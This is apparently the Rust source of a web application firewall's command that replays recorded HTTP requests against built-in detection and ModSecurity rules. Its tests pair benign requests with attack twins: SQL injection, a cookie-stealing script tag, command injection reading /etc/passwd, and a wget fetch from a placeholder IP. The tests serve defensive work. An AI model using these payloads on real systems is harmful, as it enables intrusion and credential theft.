//! `portcullis inspect`: recorded requests put to the detection and the rules, one line for each.
//!
//! It opens files and writes lines. What a recording is, `portcullis_wire::recording` says; what is found in it is
//! `portcullis_waf`'s, set up as the gate would.

use std::io::{self, BufWriter, ErrorKind, Read as _, Write};
use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Instant;

use portcullis_config::{Inspection, InspectionMode, Policy, Router, RuleFiles, Waf};
use portcullis_proxy::inspectors::{Inspector, inspector};
use portcullis_waf::body::{Bounds, Fields};
use portcullis_waf::seclang::{self, Clock, Peer, Program, Transaction};
use portcullis_waf::semantic::Findings;
use portcullis_wire::recording::{self, Recording};

use crate::args::{self, Format};
use crate::rulebook::{self, Wrong};
use crate::world::{plain, read_bounded};
use crate::{Done, Failure, configuration, install, talk};

/// A recording is never larger.
const RECORDING_BYTES: u64 = 64 * 1024 * 1024;

/// Looks at each recording and prints what it finds.
pub(crate) fn run(flags: &args::Inspect) -> Done {
    let mut desk = Desk::new(flags)?;
    let mut out = BufWriter::new(io::stdout().lock());
    let mut unread = 0_usize;
    for path in &flags.paths {
        let told = each(path, &mut |name, bytes| {
            let Some(recording) = recording::read(bytes) else {
                talk::say(&format!("{name}: there is no request in it"));
                unread += 1;
                return Ok(());
            };
            let found = desk.look(name, &recording).map_err(Stop::Failed)?;
            let line = match flags.format {
                Format::Json => found.json(),
                Format::Text => found.text(),
            };
            writeln!(out, "{line}").map_err(Stop::Closed)
        });
        match told {
            Err(Stop::Closed(error)) if error.kind() == ErrorKind::BrokenPipe => return Ok(()),
            Err(Stop::Closed(error)) => return Err(Failure::because(format!("cannot write to stdout: {error}"))),
            Err(Stop::Failed(failure)) => return Err(failure),
            Ok(()) => {}
        }
    }
    match out.flush() {
        Err(error) if error.kind() != ErrorKind::BrokenPipe => {
            Err(Failure::because(format!("cannot write to stdout: {error}")))
        }
        _ if unread > 0 => Err(Failure::Said),
        _ => Ok(()),
    }
}

/// Why no further recording is looked at.
enum Stop {
    /// Nobody reads.
    Closed(io::Error),
    /// Something is not in order.
    Failed(Failure),
}

/// What is done with a recording, of which the name and the bytes are given.
type Tell<'a> = dyn FnMut(&str, &[u8]) -> Result<(), Stop> + 'a;

/// Every recording of a path, in the order of their names.
fn each(path: &Path, tell: &mut Tell<'_>) -> Result<(), Stop> {
    let unreadable = |path: &Path, error: &io::Error| {
        Stop::Failed(Failure::because(format!("cannot read {}: {}", path.display(), plain(error))))
    };
    if path == Path::new("-") {
        let mut bytes = Vec::new();
        io::stdin().lock().take(RECORDING_BYTES).read_to_end(&mut bytes).map_err(|error| unreadable(path, &error))?;
        return tell("stdin", &bytes);
    }
    if path.is_dir() {
        let entries = std::fs::read_dir(path).map_err(|error| unreadable(path, &error))?;
        let mut entries: Vec<PathBuf> = entries.flatten().map(|entry| entry.path()).collect();
        entries.sort();
        return entries.iter().try_for_each(|entry| each(entry, tell));
    }
    let bytes = read_bounded(path, RECORDING_BYTES).map_err(|error| unreadable(path, &error))?;
    tell(&path.display().to_string(), &bytes)
}

/// What inspects, and where it puts what it finds.
struct Desk {
    waf: Waf,
    /// Of a configuration, its platforms and how a request finds its way to one.
    platforms: Option<(Policy, Router)>,
    /// Those that were needed so far.
    inspectors: Vec<(Inspection, Arc<Inspector>)>,
    findings: Findings,
    fields: Fields,
}

impl Desk {
    fn new(flags: &args::Inspect) -> Result<Self, Failure> {
        let (waf, platforms) = match &flags.config {
            Some(config) => {
                let policy = configuration::policy(config)?;
                let router = Router::new(&policy);
                (policy.waf.clone(), Some((policy, router)))
            }
            None => (declared(flags)?, None),
        };
        Ok(Self { waf, platforms, inspectors: Vec::new(), findings: Findings::new(), fields: Fields::new() })
    }

    fn look<'a>(&mut self, name: &'a str, recording: &Recording<'_>) -> Result<Found<'a>, Failure> {
        let inspector = self.inspector(recording)?;
        let mut found = Found { name, blocked: false, score: 0, matches: Vec::new(), microseconds: 0.0 };
        let started = Instant::now();
        self.detect(&inspector, recording, &mut found);
        let transaction = inspector.program.as_ref().map(|program| ask_rules(&inspector, program, recording));
        found.microseconds = started.elapsed().as_secs_f64() * 1e6;
        found.matches.extend(self.findings.list().iter().map(Told::finding));
        if let Some(transaction) = &transaction {
            found.blocked |= transaction.intervention().is_some();
            let score = |name| u64::try_from(transaction.number(name)).unwrap_or(0);
            found.score += score("blocking_inbound_anomaly_score") + score("blocking_outbound_anomaly_score");
            found.matches.extend(transaction.matches().iter().map(Told::rule));
            if transaction.exceeded() {
                found.matches.push(Told::exceeded());
            }
        }
        Ok(found)
    }

    /// What the gate's own detection makes of it.
    fn detect(&mut self, inspector: &Inspector, recording: &Recording<'_>, found: &mut Found<'_>) {
        self.findings.clear();
        let Some((detector, acts)) = &inspector.detection else { return };
        detector.request_line(recording.method, recording.target, &mut self.findings);
        for line in &recording.fields {
            detector.header(line.name, &line.value, &mut self.findings);
        }
        let kind = field(recording, "content-type").unwrap_or_default();
        let packed =
            field(recording, "content-encoding").is_some_and(|coding| !coding.eq_ignore_ascii_case(b"identity"));
        let body = recording.body.get(..inspector.body_bytes).unwrap_or(&recording.body);
        detector.body(kind, packed, body, &Bounds::default(), &mut self.fields, &mut self.findings);
        found.score += u64::from(self.findings.score());
        found.blocked |= *acts && detector.blocks(&self.findings);
    }

    /// That of the route that the request would take; where it would take none, what holds for all.
    fn inspector(&mut self, recording: &Recording<'_>) -> Result<Arc<Inspector>, Failure> {
        let route = self.platforms.as_ref().and_then(|(policy, router)| {
            let host = field(recording, "host").unwrap_or_default().split(|byte| *byte == b':').next()?;
            let path = recording.target.split(|byte| *byte == b'?').next()?;
            let platform = router.platform(host)?;
            policy.platforms.get(platform)?.routes.get(router.route(platform, path)?)
        });
        let wanted = route.map_or(&self.waf.inspection, |route| &route.inspection);
        if let Some((_, known)) = self.inspectors.iter().find(|(inspection, _)| inspection == wanted) {
            return Ok(Arc::clone(known));
        }
        let made = Arc::new(inspector(&self.waf, wanted, None).map_err(Failure::Because)?);
        self.inspectors.push((wanted.clone(), Arc::clone(&made)));
        Ok(made)
    }
}

/// What the flags ask for, as a configuration would say it.
fn declared(flags: &args::Inspect) -> Result<Waf, Failure> {
    let acts = |wanted: bool| if wanted { InspectionMode::Enforce } else { InspectionMode::Off };
    let inspection = Inspection {
        detection: acts(flags.builtin || flags.rules.is_none()),
        rules: acts(flags.rules.is_some()),
        paranoia: flags.paranoia,
        ..Inspection::default()
    };
    let rules = match &flags.rules {
        Some(directory) => Some(Arc::new(rules(directory)?)),
        None => None,
    };
    Ok(Waf { inspection, rules, ..Waf::default() })
}

/// The rules of a directory: of a Core Rule Set its set-up and what is under `rules/`, otherwise its `.conf` files.
fn rules(directory: &Path) -> Result<RuleFiles, Failure> {
    let nested = directory.join("rules");
    let mut patterns = Vec::new();
    if nested.is_dir() {
        let setups = ["crs-setup.conf", "crs-setup.conf.example"].map(|name| directory.join(name));
        patterns.extend(setups.into_iter().find(|setup| setup.is_file()));
        // As `rules add` installs it: with its tuning, where that is there.
        let [before, after] =
            install::TUNING.map(|(name, _)| directory.join(name)).map(|path| path.is_file().then_some(path));
        patterns.extend(before);
        patterns.push(nested.join("*.conf"));
        patterns.extend(after);
    } else {
        patterns.push(directory.join("*.conf"));
    }
    match rulebook::read(&patterns) {
        Ok(book) => Ok(book.files),
        Err(Wrong::Unread(lines)) => Err(Failure::because(lines.join("; "))),
        Err(Wrong::Refused(refused)) => {
            talk::say(&refused.to_string());
            Err(Failure::Said)
        }
    }
}

/// Puts a recording through all phases.
fn ask_rules(inspector: &Inspector, program: &Arc<Program>, recording: &Recording<'_>) -> Transaction {
    let peer = Peer {
        client: IpAddr::V4(Ipv4Addr::LOCALHOST),
        client_port: 0,
        server: IpAddr::V4(Ipv4Addr::LOCALHOST),
        server_port: 80,
        unique_id: "inspect",
        now: Clock::default(),
    };
    let mut transaction = Transaction::new(program, &peer);
    transaction.bound(seclang::Bounds {
        steps: inspector.steps,
        request_body: inspector.body_bytes,
        ..seclang::Bounds::default()
    });
    transaction.request_line(recording.method, recording.target, recording.protocol);
    for line in &recording.fields {
        transaction.request_header(line.name, &line.value);
    }
    let mut decided = transaction.request_head_done();
    if decided.is_none() {
        transaction.request_body(&recording.body);
        decided = transaction.request_body_done();
    }
    if let Some(response) = recording.response.as_ref().filter(|_| decided.is_none()) {
        transaction.response_head(response.status, response.protocol);
        for line in &response.fields {
            transaction.response_header(line.name, &line.value);
        }
        if transaction.response_head_done().is_none() {
            transaction.response_body(&response.body);
            transaction.response_body_done();
        }
    }
    transaction.finish();
    transaction
}

fn field<'a>(recording: &'a Recording<'_>, wanted: &str) -> Option<&'a [u8]> {
    let named = |line: &&recording::Line<'_>| line.name.eq_ignore_ascii_case(wanted.as_bytes());
    recording.fields.iter().find(named).map(|line| &*line.value)
}

/// What came of one recording.
struct Found<'a> {
    name: &'a str,
    blocked: bool,
    /// Of the gate's own detection and of the rules together.
    score: u64,
    matches: Vec<Told>,
    microseconds: f64,
}

/// One thing that was found.
struct Told {
    rule: String,
    message: String,
    /// Where it stands: `query id`, `ARGS:id`.
    place: String,
    /// The part that says so.
    what: String,
    why: String,
}

impl Told {
    fn finding(finding: &portcullis_waf::semantic::Finding) -> Self {
        let name = text(&finding.name);
        let gap = if name.is_empty() { "" } else { " " };
        let decoded = match finding.decoded {
            0 => String::new(),
            1 => ", decoded once".to_owned(),
            times => format!(", decoded {times} times"),
        };
        Self {
            rule: finding.patch.unwrap_or(finding.class.as_str()).to_owned(),
            message: finding.why.to_owned(),
            place: format!("{}{gap}{name}", finding.place.as_str()),
            what: text(&finding.matched),
            why: format!("score {}{decoded}", finding.score),
        }
    }

    /// That rules were left out.
    fn exceeded() -> Self {
        Self {
            rule: "steps".to_owned(),
            message: "its inspection takes more steps than it may: rules were left out".to_owned(),
            place: String::new(),
            what: String::new(),
            why: "`steps` in [waf]".to_owned(),
        }
    }

    fn rule(found: &seclang::Match) -> Self {
        let part = found.part.and_then(|(from, to)| found.value.get(from..to)).unwrap_or(&found.value);
        Self {
            rule: found.rule.to_string(),
            message: text(&found.message),
            place: text(&found.target),
            what: text(part),
            why: text(&found.data),
        }
    }
}

impl Found<'_> {
    fn verdict(&self) -> &'static str {
        if self.blocked { "block" } else { "pass" }
    }

    /// One line for programs.
    fn json(&self) -> String {
        let quoted = |text: &str| serde_json::Value::from(text).to_string();
        let matches = self.matches.iter().map(|told| {
            format!(
                "{{\"rule\":{},\"message\":{},\"where\":{},\"what\":{},\"why\":{}}}",
                quoted(&told.rule),
                quoted(&told.message),
                quoted(&told.place),
                quoted(&told.what),
                quoted(&told.why)
            )
        });
        format!(
            "{{\"name\":{},\"verdict\":\"{}\",\"score\":{},\"matches\":[{}],\"microseconds\":{:.1}}}",
            quoted(self.name),
            self.verdict(),
            self.score,
            matches.collect::<Vec<_>>().join(","),
            self.microseconds
        )
    }

    /// One line for people, and one for each match.
    fn text(&self) -> String {
        let mut line = format!("{:<5} {:>4} {:>8.1} µs  {}", self.verdict(), self.score, self.microseconds, self.name);
        for told in &self.matches {
            let Told { rule, message, place, what, why } = told;
            let what: String = what.chars().take(120).collect();
            line.push_str(&format!("\n      {rule} in {place}: {message} ({what:?}; {why})"));
        }
        line
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn desk(rules: Option<PathBuf>, builtin: bool) -> Desk {
        let flags =
            args::Inspect { paths: Vec::new(), config: None, rules, paranoia: None, builtin, format: Format::Json };
        Desk::new(&flags).unwrap_or_else(|failure| panic!("{failure:?}"))
    }

    fn looked(desk: &mut Desk, raw: &str) -> serde_json::Value {
        let recording = recording::read(raw.as_bytes()).expect("a request");
        let found = desk.look("one", &recording).unwrap_or_else(|failure| panic!("{failure:?}"));
        assert!(found.text().contains(found.verdict()));
        serde_json::from_str(&found.json()).expect("an object")
    }

    #[test]
    fn an_attack_is_told_and_its_twin_passes() {
        let mut desk = desk(None, false);
        let post = |value: &str| {
            format!("POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{{\"id\":\"{value}\"}}")
        };
        let told = looked(&mut desk, &post("1' union select password from users -- "));
        assert_eq!((told["name"].as_str(), told["verdict"].as_str()), (Some("one"), Some("block")));
        let first = &told["matches"][0];
        assert!(
            first["rule"] == "sql" && first["where"].as_str().is_some_and(|place| place.contains("json")),
            "{told}"
        );
        let told = looked(&mut desk, &post("the union was a great select"));
        assert_eq!(
            (told["verdict"].as_str(), told["matches"].as_array().map(Vec::len)),
            (Some("pass"), Some(0)),
            "{told}"
        );
    }

    /// The Core Rule Set of this machine, with our tuning; none where it is not there.
    fn tuned() -> Option<(tempfile::TempDir, Desk)> {
        let shared = std::env::var_os("PORTCULLIS_SHARED")
            .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"), PathBuf::from);
        let release = shared.join("crs");
        if !release.join("rules").is_dir() {
            talk::say(
                "skipped: no Core Rule Set; unpack a release as `crs` in the directory that PORTCULLIS_SHARED names",
            );
            return None;
        }
        let home = tempfile::tempdir().expect("a directory");
        let flags = args::AddRules {
            set: "crs".to_owned(),
            from: release.display().to_string(),
            sha256: None,
            config: home.path().join("portcullis.toml"),
            dry_run: false,
        };
        install::add(&flags).unwrap_or_else(|failure| panic!("{failure:?}"));
        let desk = desk(Some(home.path().join("crs")), false);
        Some((home, desk))
    }

    #[test]
    fn the_tuning_lets_browsers_pass_and_their_evil_twins_not() {
        let Some((_home, mut desk)) = tuned() else { return };
        let head = |line: &str, fields: &str| {
            format!(
                "{line} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 \
                 Firefox/140.0\r\nAccept: */*\r\n{fields}\r\n"
            )
        };
        let post = |kind: &str, body: &str| {
            let kind = if kind.is_empty() { String::new() } else { format!("Content-Type: {kind}\r\n") };
            head("POST /beacon", &format!("{kind}Content-Length: {}\r\n", body.len())) + body
        };
        let elsewhere = "Referer: https://other.example.net/\r\n";
        let table: &[(&str, String, String)] = &[
            (
                "what a beacon sends",
                post("text/plain;charset=UTF-8", r#"{"page":"/a=b&c","events":[{"name":"click","at":1}]}"#),
                post("text/plain;charset=UTF-8", r#"{"page":"1' union select password from users-- -"}"#),
            ),
            (
                "bytes without a type",
                post("", "\u{1}\u{2}a=b&\u{3}\r\n\u{fffd}"),
                post("", r#"{"a":{"b":"<script>alert(document.cookie)</script>"}}"#),
            ),
            (
                "a message that is no text",
                post("application/x-protobuf", "\u{a}\u{1}a=b&\u{3}\r\n\u{fffd}"),
                post("application/x-protobuf", r#"{"a":"; cat /etc/passwd"}"#),
            ),
            (
                "a semicolon too many",
                post("application/json; charset=utf-8;", "{}"),
                post("application/json; x=\"y\" z", "{}"),
            ),
            (
                "a call from another site",
                head("GET /api?sessionid=1", &format!("{elsewhere}Sec-Fetch-Mode: cors\r\n")),
                head("GET /api?sessionid=1", elsewhere),
            ),
            ("a file by a longer name", head("GET /assets/appConfig.json", ""), head("GET /config.json", "")),
            (
                "a directory of scripts",
                head("GET /?next=/cgi-bin/catalogue", ""),
                head("GET /?next=/cgi-bin/catalogue;/bin/cat", ""),
            ),
            (
                "JSON within a parameter",
                head("GET /?s=%7B%22a%22:%22%7B%7D%22%7D", ""),
                head("GET /?s=%7B%22a%22:%221'+union+select+1,2+from+users--+-%22%7D", ""),
            ),
            (
                "a report of an error",
                post(
                    "application/json",
                    r#"{"log":[{"stack":"Error: no\n at a.b (https://example.org/a.js:1:2)\n at >(https://example.org/b.js)"}]}"#,
                ),
                post("application/json", r#"{"log":[{"name":"Error: $(cat /etc/passwd)"}]}"#),
            ),
            (
                "a name that begins like a command",
                head("GET /?lastLoginType=1", ""),
                head("GET /?type=;wget+http://192.0.2.1/x", ""),
            ),
            ("a change", head("PUT /item/1", "Content-Length: 0\r\n"), head("PROPFIND /item/1", "")),
        ];
        for (name, ordinary, attack) in table {
            let told = looked(&mut desk, ordinary);
            assert_eq!(told["verdict"], "pass", "{name}: {told:#}");
            let told = looked(&mut desk, attack);
            assert_eq!(told["verdict"], "block", "the twin of {name}: {told:#}");
        }
    }

    #[test]
    fn rules_of_a_directory_see_requests_and_responses() {
        let directory = tempfile::tempdir().expect("a directory");
        let rules = "SecResponseBodyAccess On\nSecResponseBodyMimeType text/plain\n\
                     SecRule ARGS \"@rx evil\" \"id:1,phase:2,deny,msg:'It says evil'\"\n\
                     SecRule RESPONSE_BODY \"@rx secret\" \"id:2,phase:4,deny\"\n";
        std::fs::write(directory.path().join("own.conf"), rules).expect("written");
        let mut desk = desk(Some(directory.path().to_owned()), false);
        let told = looked(&mut desk, "GET /?q=evil HTTP/1.1\r\n\r\n");
        let found = &told["matches"][0];
        assert_eq!((told["verdict"].as_str(), found["rule"].as_str()), (Some("block"), Some("1")), "{told}");
        assert_eq!((found["where"].as_str(), found["what"].as_str()), (Some("ARGS:q"), Some("evil")), "{told}");
        let answered =
            |body: &str| format!("GET / HTTP/1.1\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n{body}");
        assert_eq!(looked(&mut desk, &answered("a secret"))["verdict"], "block");
        assert_eq!(looked(&mut desk, &answered("nothing"))["verdict"], "pass");
    }

    #[test]
    fn a_directory_is_read_in_order_and_deep() {
        let directory = tempfile::tempdir().expect("a directory");
        std::fs::create_dir(directory.path().join("b")).expect("made");
        for name in ["c", "a", "b/d"] {
            std::fs::write(directory.path().join(name), name).expect("written");
        }
        let mut seen = Vec::new();
        let read = each(directory.path(), &mut |_, bytes| {
            seen.push(String::from_utf8_lossy(bytes).into_owned());
            Ok(())
        });
        assert!(read.is_ok());
        assert_eq!(seen, ["a", "b/d", "c"]);
    }
}
